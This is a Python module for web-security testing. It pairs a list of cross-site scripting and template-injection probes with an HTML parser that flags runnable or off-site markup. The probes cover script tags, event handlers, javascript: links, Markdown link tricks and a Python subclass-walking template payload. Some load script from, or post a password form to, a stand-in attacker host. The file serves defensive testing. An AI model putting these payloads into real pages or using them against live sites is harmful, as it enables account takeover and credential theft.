"""Attempts to get markup into a page that runs something, and a parser that finds whatever would.

The attempts follow the usual collections: elements, handlers, addresses, broken markup, Markdown, template languages.
"""

import re
from html.parser import HTMLParser

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.invalid/x.js></sCrIpT>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onload=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<form action=//evil.invalid><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.invalid';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p id=status name=csrf_token>clobbered</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](x' onerror='alert(1))",
    "![x](//evil.invalid/track.png)",
    "[x]: javascript:alert(1)\n[x]",
    "[x](https://example.org \"' onmouseover=alert(1) '\")",
    "<javascript:alert(1)>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "`<script>alert(1)</script>`",
    "{{7907*7919}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7907*7919} #{7907*7919} <%= 7907*7919 %>",
    "\u2028</script><script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)

_OURS = (
    "a abbr article aside b blockquote body br button circle code dd details dialog div dl dt em fieldset figcaption "
    "figure footer form h1 h2 h3 h4 head header hr html input kbd label legend li line link main mark meta nav ol "
    "optgroup option p path pre progress rect script section select small span strong sub summary sup svg table tbody "
    "td caption textarea th thead time title tr ul"
)
_ADDRESSES = ("href", "src", "action", "formaction")
_SCHEMES = ("http:", "https:", "mailto:", "/", "#", "?")


class _Finder(HTMLParser):
    """Notes each element or attribute that no page of ours has."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: (value or "").strip() for name, value in attrs}
        if tag not in _OURS.split():
            self.found.append(f"<{tag}>")
        for name, value in values.items():
            address = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv", "xlink:href"):
                self.found.append(f"<{tag} {name}=…>")
            if name in _ADDRESSES and not address.startswith(_SCHEMES):
                self.found.append(f"<{tag} {name}={value!r}>")
            if "evil.invalid" in address and name in _ADDRESSES:
                self.found.append(f"<{tag} {name}={value!r}>")
        if (
            tag == "script"
            and values.get("type") != "importmap"
            and not values.get("src", "").startswith("/static/")
        ):
            self.found.append("<script>")
        if tag == "script" and values.get("type") == "importmap" and not values.get("nonce"):
            self.found.append("<script type=importmap> without its nonce")
        if any(values.get(name, "/").startswith(("//", "/\\")) for name in _ADDRESSES):
            self.found.append(f"<{tag}> to another site")


def live_markup(html: str) -> list[str]:
    """Whatever in a page could run, load from elsewhere, send elsewhere, or pass for a part of ours."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    ids = re.findall(r'<[a-z][^>]*?\sid="([^"]*)"', html)
    doubled = [f"id={one!r} twice" for one in set(ids) if ids.count(one) > 1]
    return finder.found + doubled
